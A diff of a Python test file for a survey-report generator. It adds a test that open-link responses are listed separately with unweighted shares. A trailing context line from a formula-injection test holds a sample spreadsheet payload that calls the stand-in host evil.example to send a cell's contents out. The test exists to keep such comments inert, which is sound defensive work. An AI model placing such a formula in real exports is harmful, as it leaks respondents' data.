@@ -354,6 +354,18 @@ def test_weights_that_fell_back_to_the_design_are_described_as_they_are(session,
     assert "補正後の列は母集団の列と一致しません" in html.unescape(render(report, "html").decode("utf-8"))
 
 
+def test_open_responses_are_shown_beside_the_figures_as_the_notice_says(session, surveyed):
+    """The notice said the open responses were "shown separately without an interval"; they were not."""
+    responses.bulk_complete(session, surveyed, [{**FOREIGN, "kurashiyasui": 4}] * 12, channel="web")  # open
+    report = build_report(session, surveyed, "rake", "ja")
+    assert report.indicators.open.n_respondents == 12
+    page = html.unescape(render(report, "html").decode("utf-8"))
+    section = page.split("公開回答（案内状のコードなし）</h3>")[1].split("</table>")[0]
+    assert "12件は公開リンク" in section and "割合（ウェイトなし）" in section and "信頼区間" in section
+    living = next(f for f in report.indicators.figures if f.id == "living")
+    assert f"{living.title}</th><td class=\"num\">0.0</td>" in section  # all twelve disagreed
+
+
 def test_a_comment_that_looks_like_a_formula_stays_text_in_the_workbook(session, surveyed):
     """A resident's 「=HYPERLINK(…)」 became a live formula in the 自由意見 sheet (openpyxl's default)."""
     typed = ['=HYPERLINK("https://evil.example/?c="&D2,"詳しくはこちら")', "=1+2\x01", "@SUM(A1)"]
